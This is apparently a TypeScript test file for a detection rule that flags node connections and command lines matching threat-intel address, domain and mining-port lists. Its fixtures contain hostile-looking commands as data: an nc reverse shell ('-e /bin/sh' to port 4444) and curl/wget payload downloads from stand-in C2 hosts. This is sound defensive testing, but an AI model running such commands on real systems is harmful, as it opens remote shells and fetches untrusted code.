import { mergeDetectionLists } from '../../../shared/detection/allowLists';
import { createDetectionContext } from '../../../shared/detection/detectionContext';
import { evaluateRules } from '../../../shared/detection/evaluateRules';
import { Severity } from '../../../shared/detection/rule';
import { threatIntelConnection } from '../../../shared/detection/rules/node/threat-intel-connection';
import { compileThreatIntelMatcher, combineThreatIntelMatchers, emptyThreatIntelMatcher, ThreatIntelListOrigin } from '../../../shared/intel/threatIntelMatch';
import { type ClusterIdentity } from '../../../shared/kubernetes/auditEvent';
import { parseClusterResourceId } from '../../../shared/kubernetes/clusterIdentity';
import { processExecEvent, tcpConnectEvent } from '../../../shared/node/exampleNodeEvents';
import { nodeRecordOf, TEST_CLUSTER } from '../../support/ruleHarness';

const OTHER_CLUSTER = parseClusterResourceId(
  '/SUBSCRIPTIONS/0F3C5A7E-1B2D-4C6E-8F90-A1B2C3D4E5F6/RESOURCEGROUPS/RG-DEV/PROVIDERS/MICROSOFT.CONTAINERSERVICE/MANAGEDCLUSTERS/AKS-DEV-01',
) as ClusterIdentity;

/** A subscription's custom set, as the API stores it after validation (normalized entries). */
const incidentSet = compileThreatIntelMatcher([
  { name: 'incident-2026-11', ips: ['2001:db8:4f::17'], cidrs: ['198.51.100.0/24'], domains: ['*.c2-staging.example.net', 'drop.example.org'] },
]);
/** The configured feeds, as compileThreatIntelFeeds compiles them (origin `feed`). */
const feeds = compileThreatIntelMatcher([
  { name: 'spamhaus-drop', origin: ThreatIntelListOrigin.feed, cidrs: ['192.0.2.0/24', '198.51.100.0/24'] },
  { name: 'c2-domains', origin: ThreatIntelListOrigin.feed, domains: ['panel.example.com'] },
]);

const agentConnect = (daddr: string, dport = 443): Record<string, unknown> => tcpConnectEvent({ process: { binary: '/tmp/.x/agent', arguments: '' }, daddr, dport });
const curl = (url: string): Record<string, unknown> => processExecEvent({ binary: '/usr/bin/curl', arguments: `-fsSL ${url}`, parent: { binary: '/bin/sh' } });

function findingsOf(rawEvents: readonly Record<string, unknown>[], matcher = incidentSet, lists = {}): ReturnType<typeof evaluateRules>['findings'] {
  return evaluateRules(
    rawEvents.map((raw, index) => nodeRecordOf(raw, index)),
    { rules: [threatIntelConnection], context: createDetectionContext(mergeDetectionLists(lists)), customThreatIntelOf: () => matcher },
  ).findings;
}

describe('threat-intel-connection', () => {
  it("when the same connection is seen in two subscriptions and only one lists the address, then only that subscription's event alerts, naming the set", () => {
    const event = agentConnect('198.51.100.23');
    const records = [nodeRecordOf(event, 0), { ...nodeRecordOf(event, 1), cluster: OTHER_CLUSTER }];

    const result = evaluateRules(records, {
      rules: [threatIntelConnection],
      customThreatIntelOf: (subscriptionId) => (subscriptionId === TEST_CLUSTER.subscriptionId ? incidentSet : emptyThreatIntelMatcher),
    });

    expect(result.findings.map((finding) => finding.record.cluster.subscriptionId)).toEqual([TEST_CLUSTER.subscriptionId]);
    expect(result.findings[0]?.details).toMatchObject({
      indicator: 'threat-intel address',
      threatIntelList: 'incident-2026-11',
      threatIntelListKind: 'custom',
      listEntry: '198.51.100.0/24',
      seen: '198.51.100.23:443',
    });
    expect(result.findings[0]?.severity).toBe(Severity.High);
    expect(result.findings[0]?.entities).toContainEqual({ type: 'ip', address: '198.51.100.23', port: 443 });
  });

  it('when a connection goes to an IPv6 address of a custom set, then it alerts naming the set and the entry', () => {
    const [finding] = findingsOf([agentConnect('2001:db8:4f:0:0:0:0:17')]);
    expect(finding?.details).toMatchObject({ threatIntelList: 'incident-2026-11', threatIntelListKind: 'custom', listEntry: '2001:db8:4f::17' });
  });

  it('when a command line names a host under a custom `*.<domain>` entry, then it alerts as a threat-intel domain naming the set', () => {
    const [finding, ...others] = findingsOf([curl('http://dl.c2-staging.example.net/k.sh')]);
    expect(others).toEqual([]);
    expect(finding?.details).toMatchObject({
      indicator: 'threat-intel domain',
      threatIntelList: 'incident-2026-11',
      threatIntelListKind: 'custom',
      listEntry: '*.c2-staging.example.net',
      seen: 'dl.c2-staging.example.net',
    });
  });

  it('when a command line names the domain of a `*.` entry itself, or a parent of an exact entry, then nothing alerts', () => {
    expect(findingsOf([curl('https://c2-staging.example.net/'), curl('https://example.org/index.html')])).toEqual([]);
  });

  it('when a command line names an exact custom host name in upper case, then it alerts', () => {
    const [finding] = findingsOf([processExecEvent({ binary: '/usr/bin/wget', arguments: '-q -O /tmp/x http://DROP.example.org/x', parent: { binary: '/bin/sh' } })]);
    expect(finding?.details).toMatchObject({ threatIntelList: 'incident-2026-11', listEntry: 'drop.example.org', seen: 'drop.example.org' });
  });

  it('when a command line names an address in a custom range, then it alerts with the address as the entity', () => {
    const [finding] = findingsOf([processExecEvent({ binary: '/usr/bin/nc', arguments: '198.51.100.7 4444 -e /bin/sh', parent: { binary: '/bin/sh' } })]);
    expect(finding?.details).toMatchObject({ indicator: 'threat-intel address', threatIntelList: 'incident-2026-11', listEntry: '198.51.100.0/24', seen: '198.51.100.7' });
    expect(finding?.entities).toContainEqual({ type: 'ip', address: '198.51.100.7' });
  });

  it('when only a configured feed lists the address or the domain, then the feed is named with the kind feed', () => {
    const matcher = combineThreatIntelMatchers(incidentSet, feeds);
    const findings = findingsOf([agentConnect('192.0.2.10', 8443), curl('https://panel.example.com/gate.php')], matcher);
    expect(findings.map((finding) => finding.details)).toEqual([
      expect.objectContaining({ indicator: 'threat-intel address', threatIntelList: 'spamhaus-drop', threatIntelListKind: 'feed', listEntry: '192.0.2.0/24' }),
      expect.objectContaining({ indicator: 'threat-intel domain', threatIntelList: 'c2-domains', threatIntelListKind: 'feed', listEntry: 'panel.example.com' }),
    ]);
  });

  it('when a custom set, a feed and the bundled list all name the address, then the custom set is named', () => {
    const matcher = combineThreatIntelMatchers(incidentSet, feeds);
    const [finding] = findingsOf([agentConnect('198.51.100.23')], matcher, { threatIntelAddresses: ['198.51.100.23'] });
    expect(finding?.details).toMatchObject({ threatIntelList: 'incident-2026-11', threatIntelListKind: 'custom' });
  });

  it('when the address is on the bundled list only, then the bundled list and its entry are named', () => {
    const [finding] = findingsOf([agentConnect('45.9.148.35', 80)], emptyThreatIntelMatcher);
    expect(finding?.details).toMatchObject({ threatIntelList: 'threatIntelAddresses', threatIntelListKind: 'bundled', listEntry: '45.9.148.35' });
  });

  it('when a container reaches a stratum port and no list names the address, then the port list is named at Medium severity', () => {
    const [finding] = findingsOf([tcpConnectEvent({ process: { binary: '/usr/local/bin/node', arguments: 'server.js' }, daddr: '203.0.113.80', dport: 3333 })], incidentSet, {
      miningPoolPorts: ['3333'],
    });
    expect(finding?.details).toMatchObject({ indicator: 'mining pool port', threatIntelList: 'miningPoolPorts', threatIntelListKind: 'bundled', listEntry: '3333' });
    expect(finding?.severity).toBe(Severity.Medium);
  });

  it('when a connection or a command names nothing any list has, then nothing alerts', () => {
    expect(findingsOf([agentConnect('20.42.65.92'), curl('https://pypi.org/simple/requests/')], combineThreatIntelMatchers(incidentSet, feeds))).toEqual([]);
  });
});
